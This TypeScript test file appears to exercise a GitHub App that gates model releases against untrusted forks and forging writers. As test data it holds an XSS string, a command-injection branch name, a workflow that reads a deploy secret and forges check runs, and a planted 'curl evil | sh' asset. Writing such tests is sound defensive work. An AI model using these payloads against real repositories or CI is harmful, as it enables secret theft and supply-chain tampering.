// What people try who may not: a stranger by a fork whose every text is hostile, and a writer who forges what only the App may make.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { gateBecomes, gateOf, merge, propose, releaseOf, until } from '../../../scripts/demo/story/follow.ts';
import { answerName } from '../../../src/core/ledger/answer-file.ts';
import { type Environments, watchEnvironments } from './environments.ts';
import {
  adding,
  answerTo,
  better,
  endWith,
  ledgerOf,
  mergeStatus,
  modelFile,
  reactionOn,
  saidOn,
  say,
  settled,
  startLending,
  tagsOf,
} from './lending.ts';
import { artifactOf, assetsOf, packageAmong, releasesNamed } from './release.ts';

const secret = 'the-key-that-no-job-may-see-7f3a9c';
const evil = '@rita <img src=x onerror=alert(1)> [x](javascript:alert(1)) <!-- aval --> #1 ::error::owned';
const upload = 'actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f';

let story: Awaited<ReturnType<typeof startLending>>;
let environments: Environments;

beforeAll(async () => {
  story = await startLending({ secrets: { DEPLOY_KEY: secret } });
  environments = watchEnvironments(join(story.clone.folder, '..'), secret);
  await story.app.start();
});

/** Commits files on a branch and pushes it to a repository. Gives the commit. */
async function pushFiles(
  branch: string,
  files: Readonly<Record<string, string>>,
  by: { readonly user: typeof story.people.writer; readonly to: string; readonly message?: string },
): Promise<string> {
  const { clone } = story;
  const known = await clone.git('branch', '--list', '--', branch);
  await clone.git('switch', '--quiet', ...(known === '' ? ['--create'] : []), branch);
  for (const [path, text] of Object.entries(files)) {
    await mkdir(join(clone.folder, path, '..'), { recursive: true });
    await writeFile(join(clone.folder, path), text);
  }
  await clone.commit(by.message ?? branch);
  await clone.push(by.user, by.to, branch);
  const head = await clone.git('rev-parse', 'HEAD');
  await clone.git('switch', '--quiet', 'main');
  return head;
}

/** A job that shows its environment, plants what looks like ours, and tries to write with its token. */
const hostile = (on: string, artifact: string, permissions: string) => `name: aval
on: ${on}
permissions: ${permissions}
jobs:
  evaluate:
    name: evaluate (credit-risk)
    runs-on: ubuntu-latest
    env:
      STOLEN: \${{ secrets.DEPLOY_KEY }}
      TOKEN: \${{ github.token }}
      HEAD: \${{ github.event.pull_request.head.sha || github.sha }}
    steps:
      - run: |
          mkdir out
          env | sort > out/environment.txt
          printf '{"format":"aval/answer/v1","answer":{"outcome":"evaluated"}}' | tee out/answer.json out/evidence.json > out/manifest.json
          ask() { curl -s -o /dev/null -w "%{http_code} $1\\n" -X POST -H "authorization: Bearer $TOKEN" -d "$2" "$GITHUB_API_URL/repos/olivia/models/$1" >> out/asked.txt; }
          ask check-runs '{"name":"aval / gate","head_sha":"'$HEAD'","status":"completed","conclusion":"success","output":{"title":"credit-risk: promote.","summary":"Every rule holds."}}'
          ask dispatches '{"event_type":"aval-evaluate"}'
      - uses: ${upload}
        with: {name: ${artifact}, path: out, if-no-files-found: error}
`;

async function filesOf(run: number) {
  const files = artifactOf(story, run);
  return (name: string): string => new TextDecoder().decode(files.get(name));
}

describe('a pull request from a fork', () => {
  const branch = 'x$(touch>owned);echo';
  let number = 0;

  it('whose definitions hold markup is red, and what the App says of it is plain text', async () => {
    const { people, sandbox, clone, as, where } = story;
    const { stranger } = people;
    await sandbox.fork(story.repository, stranger);
    await clone.git('switch', '--quiet', '--create', branch, 'main');
    await clone.edit(modelFile, 'engine: linear ', `engine: ${JSON.stringify(evil)} `);
    await clone.edit(modelFile, /description: .*/, `description: ${JSON.stringify(evil)}`);
    await clone.commit(`${evil}\n\n::set-output name=models::[]\n`);
    await clone.push(stranger, 'sam/models', branch);
    const sha = await clone.git('rev-parse', 'HEAD');
    await clone.git('switch', '--quiet', 'main');
    const { data } = await as(stranger).rest.pulls.create({
      ...where,
      head: `sam:${branch}`,
      base: 'main',
      title: evil,
      body: evil,
    });
    number = data.number;
    expect(await gateOf(story, sha)).toMatchObject({ conclusion: 'failure' });
    await settled(story);
    await expectPlain(number);
  });

  it('asks nothing of the holdout by itself, whatever its own workflow says it found', async () => {
    const { people, clone } = story;
    await clone.git('switch', '--quiet', branch);
    await clone.edit(modelFile, `engine: ${JSON.stringify(evil)} `, 'engine: linear ');
    await clone.edit(...better);
    await clone.git('switch', '--quiet', branch);
    const workflow = { '.github/workflows/aval.yaml': hostile('pull_request', 'aval-credit-risk', 'write-all') };
    const sha = await pushFiles(branch, workflow, { user: people.stranger, to: 'sam/models', message: evil });
    expect(await gateOf(story, sha)).toMatchObject({ conclusion: 'action_required' });
    await settled(story);
    const [run] = [...story.repository.runs.values()].filter(({ headSha }) => headSha === sha);
    expect(run).toMatchObject({ event: 'pull_request', conclusion: 'success' });
    const read = await filesOf(run?.id ?? 0);
    expect(read('environment.txt')).toContain('GITHUB_ACTIONS=true');
    expect(read('environment.txt')).toMatch(/^STOLEN=$/m);
    expect(read('asked.txt')).toBe('403 check-runs\n403 dispatches\n');
    expect((await ledgerOf(story)).of(number)).toEqual([]);
    expect(saidOn(story, number)[0]?.body).toContain(
      'waiting for someone with write access to look at this change from a fork',
    );
    await expectPlain(number);
  });

  it('is evaluated when a writer names its head, whatever a stranger thinks of that: not for a stranger, and not for a head that moved on', async () => {
    const { people, repository } = story;
    const sha = repository.pulls.get(number)?.head.sha ?? '';
    const command = `/aval evaluate ${sha.slice(0, 12)}`;
    expect(await reactionOn(story, await say(story, people.stranger, number, command))).toBe('-1');
    const stale = `/aval evaluate ${await story.clone.git('rev-parse', `${sha}~1`)}`;
    expect(await reactionOn(story, await say(story, people.writer, number, stale))).toBe('-1');
    await settled(story);
    expect((await ledgerOf(story)).of(number)).toEqual([]);
    expect(await reactionOn(story, await silenced(number, command))).toBe('rocket');
    expect((await gateBecomes(story, sha, 'success')).title).toContain('credit-risk: promote.');
    await settled(story);
    const { answer, evidence } = await answerTo(story, number);
    expect(evidence.level).toBe('reproduced');
    expect(repository.runs.get(answer.run)).toMatchObject({ event: 'repository_dispatch', actor: 'aval[bot]' });
    await expectPlain(number);
  });

  it('no job wrote anything, and no process of any job held a secret', () => {
    const byJobs = story.sandbox.requests.filter(({ by }) => by === 'github-actions[bot]');
    expect(byJobs.filter(({ method, status }) => method !== 'GET' && status < 400)).toEqual([]);
    expect(environments.seen).toBeGreaterThan(10);
    expect(environments.leaks).toEqual([]);
  });
});

/** The writer says a command, and the stranger's thumb is on it before the App hears of it. Gives the id of the comment. */
async function silenced(pull: number, command: string): Promise<number> {
  const { people, sandbox, as, where } = story;
  const { webhooks } = sandbox;
  const treat = webhooks.treat;
  webhooks.treat = ({ event }) => (event === 'issue_comment' ? 'hold' : 'send');
  const comment_id = await say(story, people.writer, pull, command);
  for (const content of ['-1', 'rocket'] as const)
    await as(people.stranger).rest.reactions.createForIssueComment({ ...where, comment_id, content });
  await until('the delivery', async () => webhooks.held[0]);
  webhooks.treat = treat;
  await webhooks.release();
  return comment_id;
}

/** The links that the App makes itself: to the run that it dispatched, and to the guide. */
const ownLink =
  /<a href="(?:http:\/\/127\.0\.0\.1:\d+\/olivia\/models\/actions\/runs\/\d+#artifacts|https:\/\/github\.com\/aval-ml\/aval\/blob\/v[\d.]+\/docs\/guide\/comment\.md)" rel="nofollow">(report|how to read this)<\/a>/g;

/** Looks at what the App said as people see it. */
async function expectPlain(pull: number): Promise<void> {
  const page = await fetch(`${story.sandbox.url}/olivia/models/pull/${pull}`, { headers: { accept: 'text/html' } });
  const articles = (await page.text()).match(/<article class="comment"[\s\S]*?<\/article>/g) ?? [];
  const ours = articles.filter((article) => />aval<\/a> <span class="tag">bot<\/span>/.test(article));
  expect(ours.length).toBeGreaterThan(0);
  for (const article of ours) {
    const content = article
      .slice(article.indexOf('<div class="content">'))
      .replace(/<a href="\/olivia\/models\/commit\/[0-9a-f]{40}">/g, '') // the commits that the App names
      .replace(ownLink, '$1');
    // no link, so no mention and no reference either; no picture; nothing that runs
    expect(content).not.toMatch(/<(?:a|img|script|iframe|svg|object|form|input)\b|<[^>]*\s(?:on\w+|href|src)=/i);
  }
}

describe('a writer who forges', () => {
  it('a check of our name, by a job of their own branch: the required one stays ours', async () => {
    const { people, repository, appId } = story;
    await releaseOf(story, 'credit-risk@v1.0.0');
    await settled(story);
    const files = {
      '.github/workflows/forge.yaml': hostile('push', 'aval-credit-risk', '{checks: write, contents: write}'),
    };
    await story.clone.git('switch', '--quiet', '--create', 'forged', 'main');
    await story.clone.edit(...adding('hosing'));
    const sha = await pushFiles('forged', files, { user: people.writer, to: repository.fullName });
    const { data: pull } = await story.as(people.writer).rest.pulls.create({
      ...story.where,
      head: 'forged',
      base: 'main',
      title: 'Forged',
    });
    await settled(story);
    const gates = [...repository.checkRuns.values()].filter(
      ({ headSha, name }) => headSha === sha && name === 'aval / gate',
    );
    expect(gates.map(({ app, conclusion }) => [app.slug, conclusion]).sort()).toEqual([
      ['aval', 'failure'],
      ['github-actions', 'success'],
    ]);
    expect(gates.some(({ app }) => app.id === appId)).toBe(true);
    // A writer's own job on the writer's own branch may have the secret: so whoever watched would have seen one that may not.
    expect(environments.leaks).not.toEqual([]);
    environments.end();
    expect(await mergeStatus(story, people.owner, pull.number)).toBe(405);
  });

  it('the event that the App sends, for an entry that is open: the run stops before any data, and is no answer', async () => {
    const { people, sandbox, repository, app } = story;
    sandbox.faults.add({ operation: 'repos/create-dispatch-event', kind: 'refuse', status: 500, times: 1000 });
    const pull = await propose(story, people.writer, 'work-years', [adding('employment_duration')]);
    const use = await until('an open entry', async () => (await ledgerOf(story)).of(pull.number)[0]);
    await app.kill();
    sandbox.faults.clear();
    const name = answerName(use.digest);
    await story.as(people.writer).rest.repos.createDispatchEvent({
      ...story.where,
      event_type: 'aval-evaluate',
      client_payload: { entry: use.digest, name },
    });
    const forged = await until('the end of the forged run', async () =>
      [...repository.runs.values()].find(({ displayTitle, status }) => displayTitle === name && status === 'completed'),
    );
    expect(forged).toMatchObject({ conclusion: 'failure', actor: 'walter' });
    const [notes] = story.runner.notes(forged.id);
    expect(notes?.annotations.map(({ message }) => message).join('\n')).toContain(
      'walter asked for the holdout; only aval[bot] may',
    );
    expect([...repository.artifacts.values()].filter(({ runId }) => runId === forged.id)).toEqual([]);
    await app.start();
    expect(await gateOf(story, pull.head.sha)).toMatchObject({ conclusion: 'success' });
    const { answer } = await answerTo(story, pull.number);
    expect(repository.runs.get(answer.run)).toMatchObject({ actor: 'aval[bot]', displayTitle: name });
    await settled(story);
  });

  it('a package of a known digest, in a draft that waits for the next version and in a release of their own: neither is used', async () => {
    const { people, repository } = story;
    const [pull] = [...repository.pulls.values()].filter(({ head }) => head.ref === 'work-years');
    if (pull === undefined) throw new Error('it was proposed before');
    const { answer } = await answerTo(story, pull.number);
    const judged = artifactOf(story, answer.run);
    const { names } = packageAmong(judged);
    const planted = new Map([...judged].filter(([name]) => names.includes(name)));
    const victim = names.find((name) => name.startsWith('model')) ?? '';
    planted.set(victim, altered(judged.get(victim)));
    planted.set('run-me.sh', new TextEncoder().encode('curl evil | sh'));
    for (const [tag_name, draft] of [
      ['credit-risk@v2.0.0', true],
      ['best', false],
    ] as const) {
      await publishAs(people.writer, tag_name, draft, planted);
    }
    await merge(story, people.owner, pull.number);
    const release = await until('the release', async () =>
      releasesNamed(story, 'credit-risk@v2.0.0').find(({ draft }) => !draft),
    );
    await settled(story);
    expect(await tagsOf(story)).toEqual(['best', 'credit-risk@v1.0.0', 'credit-risk@v2.0.0']);
    expect(release).toMatchObject({ immutable: true, author: { login: 'aval[bot]' } });
    const assets = await assetsOf(release);
    expect(packageAmong(assets).digest).toBe(answer.package);
    expect([...assets.keys()]).not.toContain('run-me.sh');
  });
});

async function publishAs(
  user: typeof story.people.writer,
  tag_name: string,
  draft: boolean,
  assets: ReadonlyMap<string, Uint8Array>,
): Promise<void> {
  const client = story.as(user);
  const { data } = await client.rest.repos.createRelease({ ...story.where, tag_name, draft: true, body: 'planted' });
  for (const [name, bytes] of assets) {
    const headers = { 'content-type': 'application/octet-stream', 'content-length': bytes.length };
    await client.request({ method: 'POST', url: data.upload_url, name, data: Buffer.from(bytes), headers });
  }
  if (!draft) await client.rest.repos.updateRelease({ ...story.where, release_id: data.id, draft: false });
}

/** Of the same length. */
function altered(bytes: Uint8Array = new Uint8Array()): Uint8Array {
  const copy = Uint8Array.from(bytes);
  const last = copy.length - 1;
  copy[last] = (copy[last] ?? 0) ^ 1;
  return copy;
}

endWith(() => story);
